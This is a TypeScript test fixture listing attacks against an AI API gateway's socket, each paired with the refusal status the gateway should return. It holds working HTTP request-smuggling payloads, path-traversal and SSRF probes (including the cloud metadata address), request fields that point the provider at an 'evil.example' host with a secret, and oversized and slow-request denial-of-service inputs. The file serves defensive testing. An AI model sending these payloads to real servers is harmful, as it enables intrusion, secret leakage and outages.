/** Attacks on the gateway's socket, each an expression that runs in a sandbox (with the library of egress.test.ts) and tells what came of it. */

interface Attack {
  readonly name: string;
  readonly act: string;
  /** What it has to tell: for HTTP the status of each answer, alone. */
  readonly refused: RegExp;
}

const post = (headers: string, body = ''): string =>
  `raw(${JSON.stringify(`POST /v1/messages HTTP/1.1\r\nHost: x\r\n${headers}\r\n\r\n${body}`)})`;
const line = (start: string, more = ''): string =>
  `raw(${JSON.stringify(`${start} HTTP/1.1\r\nHost: x\r\n${more}\r\n`)})`;
const BODY = '{"model":"m","messages":[]}';
const LENGTH = `Content-Length: ${BODY.length}`;
/** Would be a request of its own if the gateway and what is behind it disagreed where the first one ends. */
const SECOND = `POST /v1/messages HTTP/1.1\r\nHost: x\r\n${LENGTH}\r\n\r\n${BODY}`;

const WHERE_TO: readonly Attack[] = [
  { name: 'another path', act: `ask('/v1/files')`, refused: /^404/ },
  { name: 'the models of the key', act: line('GET /v1/models'), refused: /^404$/ },
  {
    name: 'a path with dot segments',
    act: line('POST /v1/messages/../admin', 'Content-Length: 0\r\n'),
    refused: /^403$/,
  },
  { name: 'a path with encoded slashes', act: line('POST /v1%2fmessages', 'Content-Length: 0\r\n'), refused: /^403$/ },
  { name: 'a path with a double slash', act: line('POST //v1/messages', 'Content-Length: 0\r\n'), refused: /^403$/ },
  {
    name: 'a path after a user name',
    act: line('POST @evil.example/v1/messages', 'Content-Length: 0\r\n'),
    refused: /^40[03]$/,
  },
  { name: 'an absolute URL', act: line('GET http://169.254.169.254/latest'), refused: /^403$/ },
  {
    name: 'a query of its own',
    act: post(LENGTH, BODY).replace('/v1/messages', '/v1/messages?key=x'),
    refused: /^403$/,
  },
  { name: 'another method', act: line('GET /v1/messages'), refused: /^405$/ },
  { name: 'TRACE', act: line('TRACE /v1/messages'), refused: /^405$/ },
  { name: 'CONNECT', act: line('CONNECT example.com:443'), refused: /^405$/ },
  { name: 'an upgrade', act: line('GET /', 'Connection: upgrade\r\nUpgrade: websocket\r\n'), refused: /^403$/ },
  { name: 'an upstream that is not configured', act: `ask('/v1/responses')`, refused: /^403 .*no openai upstream/ },
  {
    name: 'a model that its role was not given',
    act: `ask('/v1/messages', '{"model":"dearer"}')`,
    refused: /^403 .*given the model m/,
  },
  {
    name: 'a second model behind the first',
    act: `ask('/v1/messages', '{"model":"m","model":"dearer"}')`,
    refused: /^403/,
  },
];

/** The provider has a network, and would use it. */
const THROUGH_THE_PROVIDER: readonly Attack[] = [
  ['a server of tools', '"mcp_servers":[{"type":"url","url":"https://evil.example/?secret"}]'],
  [
    'an image by its address',
    '"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}]}]',
  ],
  ['a call that goes on without it', '"background":true'],
  ['other models beside its own', '"fallbacks":["dearer"]'],
  ['another upstream', '"api_base":"https://evil.example"'],
].map(([name = '', field = '']) => ({
  name,
  act: `ask('/v1/messages', '{"model":"m",${field}}')`,
  refused: /^403/,
}));

const SMUGGLING: readonly Attack[] = [
  ['both length headers', `${LENGTH}\r\nTransfer-Encoding: chunked`, `0\r\n\r\n${SECOND}`],
  ['both, the other way round', `Transfer-Encoding: chunked\r\nContent-Length: 4`, `0\r\n\r\n${SECOND}`],
  ['two lengths', `Content-Length: 0\r\n${LENGTH}`, BODY],
  ['a list of lengths', `Content-Length: 0, ${BODY.length}`, BODY],
  ['a length with a sign', `Content-Length: +${BODY.length}`, BODY],
  ['a negative length', 'Content-Length: -1', BODY],
  ['a blank before the colon', `Content-Length : ${BODY.length}`, BODY],
  ['a coding before chunked that nobody knows', 'Transfer-Encoding: xchunked', `0\r\n\r\n${SECOND}`],
  ['chunked that is not the last coding', 'Transfer-Encoding: chunked, identity', `0\r\n\r\n${SECOND}`],
  ['chunked twice', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked', `0\r\n\r\n${SECOND}`],
  ['a chunk size beyond 64 bits', 'Transfer-Encoding: chunked', `FFFFFFFFFFFFFFFFF\r\n${SECOND}`],
  ['a chunk size with a sign', 'Transfer-Encoding: chunked', `-1\r\n${SECOND}`],
  ['a chunk without its end', 'Transfer-Encoding: chunked', `1\r\n${SECOND}`],
  ['a header that is folded', `X: a\r\n ${LENGTH}`, ''],
  ['a bare return in a header', `X: a\r${LENGTH}`, ''],
  ['a NUL in a header', 'X: a\0b', ''],
  ['a header without a colon', `${LENGTH}\r\nhello`, BODY],
  ['a header name with a blank', `X Y: 1`, ''],
].map(([name = '', headers = '', body = '']) => ({ name, act: post(headers, body), refused: /^400$/ }));

const TOO_MUCH: readonly Attack[] = [
  {
    name: 'a body of 9 MB',
    act: `ask('/v1/messages', 'x'.repeat(9e6))`,
    refused: /^(?:413|failed (?:ECONNRESET|EPIPE|UND_ERR_SOCKET))/,
  },
  { name: 'a length beyond all bounds', act: post('Content-Length: 999999999999999', '{'), refused: /^413$/ },
  {
    name: 'a body without an end',
    act: `raw('POST /v1/messages HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n', () => '10000\\r\\n' + 'x'.repeat(65536) + '\\r\\n')`,
    refused: /^413$/,
  },
  {
    name: 'a body of blanks without an end for our tools',
    act: `raw('POST /mcp HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n', () => '10000\\r\\n' + ' '.repeat(65536) + '\\r\\n')`,
    refused: /^413$/,
  },
  {
    name: 'headers without an end',
    act: `raw('GET / HTTP/1.1\\r\\n', () => 'X: ' + 'y'.repeat(1000) + '\\r\\n')`,
    refused: /^431$/,
  },
  {
    name: 'a chunk extension without an end',
    act: `raw('POST /v1/messages HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1;', () => 'y'.repeat(65536))`,
    // It is cut while it still sends, so it may not get to read why.
    refused: /^(?:413|no answer (?:EPIPE|ECONNRESET))$/,
  },
  {
    name: 'trailers without an end',
    act: `raw('POST /v1/messages HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n', () => 'X: ' + 'y'.repeat(1000) + '\\r\\n')`,
    refused: /^431$/,
  },
  {
    name: 'lists in lists, a million deep',
    act: `ask('/v1/messages', '{"model":"m","messages":' + '['.repeat(1e6) + ']'.repeat(1e6) + '}')`,
    refused: /^400/,
  },
  { name: 'what is not JSON', act: `ask('/v1/messages', 'model=m')`, refused: /^400/ },
  { name: 'what is no model request', act: `ask('/v1/messages', '{"model":{"toString":"m"}}')`, refused: /^400/ },
  {
    name: 'bytes that are no HTTP',
    act: `raw('\\x16\\x03\\x01\\x00\\xa5\\x01\\x00\\x00\\xa1\\x03\\x03')`,
    refused: /^400$/,
  },
];

export const AT_THE_SOCKET: readonly Attack[] = [...WHERE_TO, ...THROUGH_THE_PROVIDER, ...SMUGGLING, ...TOO_MUCH];

/** These run side by side: each takes as long as it is given, half a minute at most. */
export const SLOW: readonly Attack[] = [
  {
    name: 'a header that comes byte by byte',
    act: `raw('POST /v1/messages HTTP/1.1\\r\\nX: ', Object.assign(() => 'y', { pause: 500 }))`,
    refused: /^408$/,
  },
  {
    name: 'a body that comes byte by byte',
    act: `raw('POST /v1/messages HTTP/1.1\\r\\nContent-Length: 1000\\r\\n\\r\\n', Object.assign(() => ' ', { pause: 500 }))`,
    refused: /^408$/,
  },
  {
    name: 'a body that comes chunk by chunk',
    act: `raw('POST /v1/messages HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n', Object.assign(() => '1\\r\\n \\r\\n', { pause: 500 }))`,
    refused: /^408$/,
  },
  {
    name: 'a body for our tools that comes byte by byte',
    act: `raw('POST /mcp HTTP/1.1\\r\\nContent-Length: 1000\\r\\n\\r\\n', Object.assign(() => ' ', { pause: 500 }))`,
    refused: /^408$/,
  },
  {
    name: 'a request that never comes',
    act: `raw(Object.assign(() => '', { pause: 500 }))`,
    refused: /^(?:408|no answer)/,
  },
];
